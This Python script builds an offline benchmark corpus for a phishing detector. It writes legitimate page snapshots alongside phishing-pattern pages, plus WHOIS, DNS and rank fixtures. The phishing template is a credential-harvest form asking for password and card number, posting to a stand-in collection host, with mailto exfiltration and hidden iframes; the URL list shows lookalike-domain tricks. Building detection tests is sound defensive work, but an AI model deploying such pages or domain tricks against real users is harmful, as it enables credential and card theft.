#!/usr/bin/env python3
"""Regenerate the archived field-test corpus under fixtures/.

27 entries: 14 phishing-pattern pages and 13 legitimate pages, each with an
archived HTML snapshot plus WHOIS/DNS/rank/index/report fixtures and a pinned
clock, so `nophish bench --fixtures fixtures ...` is fully offline and
deterministic. Page snapshots are authored archives modeled on the classic
credential-phish patterns the feature set targets (brand links pointing off
the page's own domain, blank or external form handlers, mailto exfiltration,
borderless iframes, young throwaway domains).
"""

import json
import os
import sys

ROOT = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "fixtures")

AS_OF = "2025-06-01T00:00:00+00:00"

# (url, registered_domain_for_evidence, page builder kwargs)
LEGIT = [
    ("https://www.google.com/", "google.com", dict(rank=1)),
    ("https://www.wikipedia.org/", "wikipedia.org", dict(rank=13)),
    ("https://github.com/login", "github.com", dict(rank=64, form="/session")),
    ("https://www.paypal.com/signin", "paypal.com", dict(rank=58, form="/signin/auth")),
    ("https://www.amazon.com/", "amazon.com", dict(rank=12, form="/s")),
    ("https://www.bbc.co.uk/news", "bbc.co.uk", dict(rank=102)),
    ("https://stackoverflow.com/questions", "stackoverflow.com", dict(rank=140)),
    ("https://www.python.org/downloads/", "python.org", dict(rank=740)),
    ("https://www.microsoft.com/en-us/", "microsoft.com", dict(rank=30, form="/en-us/search")),
    ("https://www.reddit.com/r/netsec/", "reddit.com", dict(rank=18)),
    ("https://news.ycombinator.com/", "ycombinator.com", dict(rank=1650)),
    ("https://www.mozilla.org/en-US/firefox/", "mozilla.org", dict(rank=520)),
    # small legitimate business: unranked, young-ish but real; the borderline case
    ("https://www.glenvale-pottery.com/shop", "glenvale-pottery.com",
     dict(rank=None, created="2021-08-15", messy=True)),
]

PHISH = [
    ("http://203.0.113.88/paypal/webscr/login.html", "203.0.113.88",
     dict(brand="paypal.com", no_whois=True, mailto=True, reported=True)),
    ("http://secure-paypal-verification.com/login", "secure-paypal-verification.com",
     dict(brand="paypal.com", blank_form=True, reported=True)),
    ("http://paypal.com.account-verify.badsecure.ru/webscr", "badsecure.ru",
     dict(brand="paypal.com", iframe=True, reported=True)),
    ("https://appleid-https-secure.com/manage", "appleid-https-secure.com",
     dict(brand="apple.com", blank_form=True)),
    ("http://bit.ly/2xWinBank", "bit.ly",
     dict(brand="chase.com", ranked_shortener=True, mailto=True, blank_form=True)),
    ("http://update-amazon.com-security.info/signin/customer/center/confirm/"
     "session/ab8d1f0e9c4/details?redirect=https%3A%2F%2Fwww.amazon.com",
     "com-security.info",
     dict(brand="amazon.com", iframe=True, reported=True)),
    ("http://chase-bank-online.top/auth", "chase-bank-online.top",
     dict(brand="chase.com", blank_form=True, dns_dead=True)),
    ("http://micros0ft-support.club/office/login", "micros0ft-support.club",
     dict(brand="microsoft.com", mailto=True, messy=True)),
    ("http://www.halifax-online.co.uk@evil-host.site/login", "evil-host.site",
     dict(brand="halifax.co.uk", blank_form=True, reported=True)),
    ("http://webmail-account-service.gq/portal", "webmail-account-service.gq",
     dict(brand="outlook.com", mailto=True, dns_dead=True)),
    ("https://faceb00k-login.cf/recover", "faceb00k-login.cf",
     dict(brand="facebook.com", iframe=True)),
    ("http://lloyds-secure4.com//verify//account", "lloyds-secure4.com",
     dict(brand="lloydsbank.com", blank_form=True, reported=True)),
    ("http://hsbc.co.uk.secure-id-check.com/login", "secure-id-check.com",
     dict(brand="hsbc.co.uk", iframe=True, mailto=True)),
    ("http://dhl-parcel-track.info/track?id=88172", "dhl-parcel-track.info",
     dict(brand="dhl.com", blank_form=True, messy=True, reported=True)),
]


def legit_page(host_base: str, form: str | None = None, messy: bool = False) -> str:
    nav = "\n".join(
        f'      <li><a href="/{p}">{p.title()}</a></li>'
        for p in ("about", "products", "docs", "support", "blog", "careers")
    )
    form_html = ""
    if form:
        form_html = (
            f'    <form action="{form}" method="get">\n'
            '      <input type="text" name="q" placeholder="Search">\n'
            '      <button type="submit">Go</button>\n'
            "    </form>\n"
        )
    extra = "" if not messy else "  <div><span>hours: tue-sat 10-6\n"
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>{host_base}</title>
  <link rel="icon" href="/favicon.ico">
  <link rel="stylesheet" href="/static/site.css">
  <script src="/static/app.js"></script>
</head>
<body>
  <header>
    <img src="/static/logo.png" alt="logo">
    <nav>
    <ul>
{nav}
      <li><a href="https://www.{host_base}/contact">Contact</a></li>
      <li><a href="https://twitter.com/{host_base.split('.')[0]}">Twitter</a></li>
    </ul>
    </nav>
  </header>
  <main>
{form_html}    <article>
      <h1>Welcome</h1>
      <p>Read the <a href="/docs/start">getting started guide</a> or browse
         <a href="/blog/archive">older posts</a>.</p>
      <img src="/media/banner.jpg" alt="">
    </article>
{extra}  </main>
  <footer><a href="/legal">Legal</a> &middot; <a href="/privacy">Privacy</a></footer>
</body>
</html>
"""


def phish_page(brand: str, blank_form: bool = False, mailto: bool = False,
               iframe: bool = False, messy: bool = False, **_ignored) -> str:
    brand_name = brand.split(".")[0]
    action = '""' if blank_form else f'"https://collect.{brand_name}-data-hub.ru/submit.php"'
    mail_html = (
        f'    <p>Trouble signing in? <a href="mailto:recovery@{brand_name}-help.ru">Email support</a></p>\n'
        if mailto else ""
    )
    iframe_html = (
        f'  <iframe src="https://www.{brand}/home" width="0" height="0" frameborder="0"></iframe>\n'
        if iframe else ""
    )
    sloppy = "<center><font size=2>" if messy else ""
    return f"""<html>
<head>
<title>{brand_name} - Verify Your Account</title>
<link rel="shortcut icon" href="https://www.{brand}/favicon.ico">
<link rel="stylesheet" href="https://cdn.{brand}/css/global.css">
<script src="https://code.jquery.com/jquery-1.12.4.min.js"></script>
<meta name="description" content="https://www.{brand}/security/notice">
</head>
<body>
{sloppy}<div class="box">
  <img src="https://www.{brand}/images/logo.png">
  <h2>Your account has been limited</h2>
  <p>We detected unusual activity. Confirm your identity within 24 hours or
     your account will be suspended.</p>
  <form method="POST" action={action}>
    <input type="text" name="user" placeholder="Email or username">
    <input type="password" name="pass" placeholder="Password">
    <input type="text" name="card" placeholder="Card number">
    <button type="submit">Confirm now</button>
  </form>
{mail_html}  <p><a href="https://www.{brand}/help">Help</a> &middot;
     <a href="https://www.{brand}/security">Security</a> &middot;
     <a href="#">Terms</a> &middot; <a href="#">Privacy</a> &middot;
     <a href="javascript:void(0)">Cookies</a></p>
  <img src="https://www.{brand}/images/secure-badge.png">
  <img src="https://www.{brand}/images/norton.png">
</div>
{iframe_html}</body>
</html>
"""


def whois_legit(domain: str, org: str, created: str = "2004-03-10") -> str:
    return f"""Domain Name: {domain.upper()}
Registry Domain ID: D{abs(hash(domain)) % 10**9}-LROR
Registrar: Safe Registrations, Inc.
Creation Date: {created}T04:00:00Z
Registry Expiry Date: 2027-09-14T04:00:00Z
Registrant Organization: {org}
Registrant Country: US
Name Server: ns1.{domain}
Name Server: ns2.{domain}
DNSSEC: signedDelegation
"""


def whois_phish(domain: str) -> str:
    return f"""Domain Name: {domain.upper()}
Registrar: Cheap Anonymous Domains Ltd
Creation Date: 2025-04-20T11:31:02Z
Registry Expiry Date: 2026-04-20T11:31:02Z
Registrant Organization: REDACTED FOR PRIVACY
Registrant State/Province: REDACTED FOR PRIVACY
Name Server: park1.cheapanon-parking.net
Name Server: park2.cheapanon-parking.net
"""


WHOIS_NOT_FOUND = "No match for the requested resource.\n>>> Last update of WHOIS database: 2025-06-01T00:00:00Z <<<\n"


def org_for(domain: str) -> str:
    label = domain.split(".")[0]
    return {
        "google.com": "Google LLC",
        "wikipedia.org": "Wikimedia Foundation, Inc. (wikipedia.org)",
        "github.com": "GitHub, Inc.",
        "paypal.com": "PayPal, Inc.",
        "amazon.com": "Amazon Technologies, Inc. (amazon.com)",
        "bbc.co.uk": "British Broadcasting Corporation (bbc.co.uk)",
        "stackoverflow.com": "Stack Exchange, Inc. (stackoverflow.com)",
        "python.org": "Python Software Foundation (python.org)",
        "microsoft.com": "Microsoft Corporation",
        "reddit.com": "Reddit, Inc.",
        "ycombinator.com": "Y Combinator Management, LLC (ycombinator.com)",
        "mozilla.org": "Mozilla Foundation (mozilla.org)",
        "glenvale-pottery.com": "Glenvale Pottery Studio (glenvale-pottery.com)",
        "bit.ly": "Bitly, Inc. (bit.ly)",
    }.get(domain, label.title())


def main() -> int:
    pages_dir = os.path.join(ROOT, "pages")
    whois_dir = os.path.join(ROOT, "whois")
    os.makedirs(pages_dir, exist_ok=True)
    os.makedirs(whois_dir, exist_ok=True)

    pages = {}
    dns = {}
    rank_rows = []
    indexed = []
    reported = []
    corpus_rows = ["url,label,fixture_path"]

    def host_of(url):
        from urllib.parse import urlsplit
        u = urlsplit(url if "://" in url else "http://" + url)
        return (u.hostname or "").lower()

    for i, (url, domain, opts) in enumerate(LEGIT):
        name = f"legit_{i:02d}_{domain.replace('.', '_')}.html"
        host = host_of(url)
        base = domain
        html = legit_page(base, form=opts.get("form"), messy=opts.get("messy", False))
        with open(os.path.join(pages_dir, name), "w", encoding="utf-8") as f:
            f.write(html)
        pages[url] = os.path.join("pages", name)
        dns[host] = True
        if opts.get("rank") is not None:
            rank_rows.append(f"{domain},{opts['rank']}")
        indexed.append(domain)
        with open(os.path.join(whois_dir, f"{domain}.txt"), "w", encoding="utf-8") as f:
            f.write(whois_legit(domain, org_for(domain),
                                created=opts.get("created", "2004-03-10")))
        corpus_rows.append(f"{url},legitimate,{pages[url]}")

    # the shortener's own domain is genuinely popular and indexed
    rank_rows.append("bit.ly,2900")
    indexed.append("bit.ly")

    for i, (url, domain, opts) in enumerate(PHISH):
        name = f"phish_{i:02d}_{domain.replace('.', '_')}.html"
        host = host_of(url)
        html = phish_page(**opts) if "brand" in opts else phish_page("paypal.com")
        with open(os.path.join(pages_dir, name), "w", encoding="utf-8") as f:
            f.write(html)
        pages[url] = os.path.join("pages", name)
        dns[host] = not opts.get("dns_dead", False)
        if opts.get("no_whois"):
            with open(os.path.join(whois_dir, f"{domain}.txt"), "w", encoding="utf-8") as f:
                f.write(WHOIS_NOT_FOUND)
        elif domain != "bit.ly":  # bit.ly already has its legitimate record
            with open(os.path.join(whois_dir, f"{domain}.txt"), "w", encoding="utf-8") as f:
                f.write(whois_phish(domain))
        if opts.get("reported"):
            reported.append(host)
        corpus_rows.append(f"{url},phishing,{pages[url]}")

    with open(os.path.join(ROOT, "pages.json"), "w", encoding="utf-8") as f:
        json.dump(pages, f, indent=2, sort_keys=True)
        f.write("\n")
    with open(os.path.join(ROOT, "dns.json"), "w", encoding="utf-8") as f:
        json.dump(dns, f, indent=2, sort_keys=True)
        f.write("\n")
    with open(os.path.join(ROOT, "rank.csv"), "w", encoding="utf-8") as f:
        f.write("# offline top-sites list: domain,rank\n")
        f.write("\n".join(sorted(rank_rows)) + "\n")
    with open(os.path.join(ROOT, "indexed.txt"), "w", encoding="utf-8") as f:
        f.write("\n".join(sorted(set(indexed))) + "\n")
    with open(os.path.join(ROOT, "reports.txt"), "w", encoding="utf-8") as f:
        f.write("# hosts/domains seen in phishing statistical reports\n")
        f.write("\n".join(sorted(set(reported))) + "\n")
    with open(os.path.join(ROOT, "as_of.txt"), "w", encoding="utf-8") as f:
        f.write(AS_OF + "\n")
    with open(os.path.join(ROOT, "corpus.csv"), "w", encoding="utf-8") as f:
        f.write("\n".join(corpus_rows) + "\n")
    print(f"wrote {len(LEGIT)} legitimate + {len(PHISH)} phishing fixtures under {ROOT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
